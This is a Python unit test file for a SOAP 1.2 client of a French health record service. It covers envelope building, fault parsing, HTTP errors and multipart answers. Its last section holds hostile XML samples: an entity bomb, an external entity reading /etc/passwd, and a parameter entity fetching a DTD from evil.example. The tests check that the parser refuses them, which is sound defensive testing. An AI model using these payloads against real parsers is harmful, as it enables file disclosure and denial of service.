"""SOAP 1.2 envelopes: building requests, reading answers, refusing hostile input."""

from __future__ import annotations

import pytest
from lxml import etree

from dmp_desktop import xmlsafe
from dmp_desktop.dmp import ns
from dmp_desktop.dmp.soap import (
    build_envelope,
    parse_envelope,
    read_http_response,
    soap_content_type,
)
from dmp_desktop.errors import (
    DmpProtocolError,
    DmpServiceError,
    HostUnreachableError,
    TimeoutError_,
)
from tests.unit.test_dmp_support import td02_answer

ACTION = ns.ACTION_TD02_RESPONSE
RELATES = "urn:uuid:0b6f4648-f2e9-4a06-94fd-c563a807212f"
WSA = f"{{{ns.WSA}}}"


def _fault(
    code: str = "soap:Receiver",
    subcodes: tuple[str, ...] = (),
    reason: str = "Acces refuse",
    detail: str = "",
) -> bytes:
    sub = ""
    for value in reversed(subcodes):
        sub = f"<soap:Subcode><soap:Value>{value}</soap:Value>{sub}</soap:Subcode>"
    return f"""<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"
      xmlns:dmp="urn:si-dmp">
      <soap:Header><Action xmlns="http://www.w3.org/2005/08/addressing">
        http://www.w3.org/2005/08/addressing/soap/fault</Action></soap:Header>
      <soap:Body><soap:Fault>
        <soap:Code><soap:Value>{code}</soap:Value>{sub}</soap:Code>
        <soap:Reason><soap:Text xml:lang="fr">{reason}</soap:Text></soap:Reason>
        {detail}
      </soap:Fault></soap:Body></soap:Envelope>""".encode()


# --- building -----------------------------------------------------------------------------------


def _request() -> tuple[etree._Element, str]:
    body = etree.Element("{urn:hl7-org:v3}PRPA_IN201307UV02")
    token = etree.Element(f"{{{ns.SAML2}}}Assertion")
    request = build_envelope(
        body,
        action=ns.ACTION_TD02,
        to="https://h/si-dmp-server/v2/services/patients",
        security_tokens=[token],
        message_id="urn:uuid:11111111-2222-3333-4444-555555555555",
    )
    assert request.message_id == "urn:uuid:11111111-2222-3333-4444-555555555555"
    assert request.content_type == (
        'application/soap+xml; charset=utf-8; action="urn:hl7-org:v3:PRPA_IN201307UV02"'
    )
    return xmlsafe.parse(request.data), request.message_id


def test_envelope_headers_in_official_order() -> None:
    root, message_id = _request()
    assert root.tag == f"{{{ns.SOAP12}}}Envelope"
    header, body = list(root)
    assert [etree.QName(h).localname for h in header] == [
        "MessageID",
        "To",
        "ReplyTo",
        "Action",
        "Security",
    ]
    assert header.findtext(f"{WSA}MessageID") == message_id
    assert header.findtext(f"{WSA}To") == "https://h/si-dmp-server/v2/services/patients"
    assert header.find(f"{WSA}ReplyTo").get("mustUnderstand") == "true"
    assert header.findtext(f"{WSA}ReplyTo/{WSA}Address") == ns.WSA_ANONYMOUS
    assert header.find(f"{WSA}Action").get("mustUnderstand") == "true"
    assert header.findtext(f"{WSA}Action") == ns.ACTION_TD02
    security = header.find(f"{{{ns.WSSE}}}Security")
    assert [c.tag for c in security] == [f"{{{ns.SAML2}}}Assertion"]
    assert [c.tag for c in body] == ["{urn:hl7-org:v3}PRPA_IN201307UV02"]


def test_envelope_generates_a_uuid_message_id() -> None:
    one = build_envelope(etree.Element("a"), action="x", to="https://h/")
    two = build_envelope(etree.Element("a"), action="x", to="https://h/")
    assert one.message_id.startswith("urn:uuid:")
    assert one.message_id != two.message_id


def test_content_type_helper() -> None:
    assert soap_content_type("urn:a") == 'application/soap+xml; charset=utf-8; action="urn:a"'


# --- reading --------------------------------------------------------------------------------------


def test_parse_returns_first_body_child_and_addressing() -> None:
    answer = parse_envelope(td02_answer(), expected_action=ACTION, relates_to=RELATES)
    assert answer.body.tag == "{urn:hl7-org:v3}PRPA_IN201308UV02"
    assert answer.action == ACTION
    assert answer.relates_to == RELATES
    assert answer.message_id == "urn:uuid:52c2786e-cb61-48cc-a621-24113888b3e6"


def test_parse_refuses_an_answer_to_another_request() -> None:
    with pytest.raises(DmpProtocolError, match="another request"):
        parse_envelope(td02_answer(), relates_to="urn:uuid:other")


def test_parse_refuses_an_unexpected_action() -> None:
    with pytest.raises(DmpProtocolError, match="action"):
        parse_envelope(
            td02_answer(action="urn:hl7-org:v3:PRPA_IN201306UV02"), expected_action=ACTION
        )


def test_parse_accepts_answers_without_addressing_headers() -> None:
    data = td02_answer().replace(b"<RelatesTo", b"<Other").replace(b"</RelatesTo>", b"</Other>")
    assert parse_envelope(data, relates_to="urn:uuid:x").relates_to is None


@pytest.mark.parametrize(
    ("fault", "code"),
    [
        (_fault(subcodes=("dmp:DMPAccessDenied",)), "DMPAccessDenied"),
        (
            _fault(subcodes=("dmp:Outer", "dmp:DMPAccessDeniedByExcludedPs")),
            "DMPAccessDeniedByExcludedPs",
        ),
        (_fault(reason="DMPClosed"), "DMPClosed"),
        (
            _fault(detail="<soap:Detail><dmp:code>DMPNotFound</dmp:code></soap:Detail>"),
            "DMPNotFound",
        ),
        (_fault(code="soap:Sender"), "Sender"),
    ],
)
def test_fault_becomes_service_error(fault: bytes, code: str) -> None:
    with pytest.raises(DmpServiceError) as caught:
        parse_envelope(fault, expected_action=ACTION, relates_to=RELATES)
    assert caught.value.code == code


def test_fault_detail_is_the_reason_text_bounded() -> None:
    with pytest.raises(DmpServiceError) as caught:
        parse_envelope(_fault(subcodes=("dmp:DMPX",), reason="x" * 1000))
    assert caught.value.detail == "x" * 300


@pytest.mark.parametrize("status", [500, 400])
def test_http_error_with_fault_is_a_service_error(status: int) -> None:
    with pytest.raises(DmpServiceError) as caught:
        read_http_response(status, "application/soap+xml", _fault(subcodes=("DMPInternalError",)))
    assert caught.value.code == "DMPInternalError"


@pytest.mark.parametrize(
    ("status", "error"),
    [
        (500, DmpProtocolError),
        (404, DmpProtocolError),
        (401, DmpProtocolError),
        (302, DmpProtocolError),
        (502, HostUnreachableError),
        (503, HostUnreachableError),
        (504, TimeoutError_),
    ],
)
def test_http_error_without_fault(status: int, error: type[Exception]) -> None:
    with pytest.raises(error):
        read_http_response(status, "text/html", b"<html><body>Bad gateway</body></html>")


def test_http_500_with_a_non_fault_envelope_is_a_protocol_error() -> None:
    with pytest.raises(DmpProtocolError, match="HTTP 500"):
        read_http_response(500, "application/soap+xml", td02_answer())


def test_http_200_reads_the_answer() -> None:
    answer = read_http_response(
        200, "application/soap+xml; charset=utf-8", td02_answer(), relates_to=RELATES
    )
    assert answer.body.tag.endswith("PRPA_IN201308UV02")


def test_http_200_with_html_is_a_protocol_error() -> None:
    with pytest.raises(DmpProtocolError, match="content type"):
        read_http_response(200, "text/html; charset=utf-8", b"<html/>")


def _multipart(root_part: bytes, start: bool = True) -> tuple[str, bytes]:
    boundary = "uuid:7b6a1d8e-1c2f-4e0a-9a8b-2f1e0c9d8b7a"
    content_type = (
        f'multipart/related; type="application/xop+xml"; boundary="{boundary}"; '
        + ('start="<root.message@cxf.apache.org>"; ' if start else "")
        + 'start-info="application/soap+xml"'
    )
    data = (
        (
            f"--{boundary}\r\n"
            "Content-Type: application/octet-stream\r\nContent-ID: <other@cxf>\r\n\r\n"
            "junk\r\n"
            f"--{boundary}\r\n"
            'Content-Type: application/xop+xml; charset=UTF-8; type="application/soap+xml"\r\n'
            "Content-Transfer-Encoding: binary\r\n"
            "Content-ID: <root.message@cxf.apache.org>\r\n\r\n"
        ).encode()
        + root_part
        + f"\r\n--{boundary}--\r\n".encode()
    )
    return content_type, data


def test_mtom_multipart_answer_is_read() -> None:
    content_type, data = _multipart(td02_answer())
    answer = read_http_response(200, content_type, data, relates_to=RELATES)
    assert answer.body.tag.endswith("PRPA_IN201308UV02")


def test_multipart_without_start_takes_the_first_part_which_must_be_xml() -> None:
    content_type, data = _multipart(b"<x/>", start=False)
    with pytest.raises(DmpProtocolError, match="not XML"):
        read_http_response(200, content_type, data)


@pytest.mark.parametrize(
    ("content_type", "data"),
    [
        ("multipart/related", b"--b\r\n\r\nx\r\n--b--"),
        ('multipart/related; boundary="b"', b"nothing here"),
        (
            'multipart/related; boundary="b"; start="<r>"',
            b"--b\r\nContent-ID: <x>\r\n\r\nx\r\n--b--",
        ),
        ('multipart/related; boundary="b"', b"--b\r\nno-blank-line\r\n--b--"),
        (
            'multipart/related; boundary="b"',
            b"--b\r\nContent-Transfer-Encoding: base64\r\n\r\nPHgvPg==\r\n--b--",
        ),
    ],
)
def test_malformed_multipart_is_a_protocol_error(content_type: str, data: bytes) -> None:
    with pytest.raises(DmpProtocolError):
        read_http_response(200, content_type, data)


# --- hostile and malformed input ---------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>
<x>&lol2;</x></soap:Body></soap:Envelope>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"><soap:Body>
<x>&xxe;</x></soap:Body></soap:Envelope>"""

PARAMETER_ENTITY = b"""<!DOCTYPE e [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>
<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"/>"""

SOAP11 = b"""<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><x/></s:Body>
</s:Envelope>"""


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(BILLION_LAUGHS, id="entity-bomb"),
        pytest.param(EXTERNAL_ENTITY, id="external-entity"),
        pytest.param(PARAMETER_ENTITY, id="parameter-entity"),
        pytest.param(td02_answer()[:-40], id="truncated"),
        pytest.param(b"", id="empty"),
        pytest.param(b"\xff\xfe\x00garbage", id="garbage"),
        pytest.param(b"<html><body>Proxy error</body></html>", id="wrong-root"),
        pytest.param(SOAP11, id="soap-1.1"),
        pytest.param(
            b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope"/>',
            id="no-body",
        ),
        pytest.param(
            b'<soap:Envelope xmlns:soap="http://www.w3.org/2003/05/soap-envelope">'
            b"<soap:Body><!-- nothing --></soap:Body></soap:Envelope>",
            id="empty-body",
        ),
        pytest.param(
            b'<Envelope xmlns="urn:not-soap"><Body><x/></Body></Envelope>', id="wrong-namespace"
        ),
        pytest.param(b"<a>" * 300 + b"</a>" * 300, id="deep-nesting"),
    ],
)
def test_hostile_or_malformed_answers_are_protocol_errors(data: bytes) -> None:
    with pytest.raises(DmpProtocolError):
        read_http_response(200, "application/soap+xml", data)


@pytest.mark.parametrize("status", [500, 400])
def test_hostile_error_bodies_are_not_mistaken_for_faults(status: int) -> None:
    with pytest.raises(DmpProtocolError):
        read_http_response(status, "application/soap+xml", BILLION_LAUGHS)
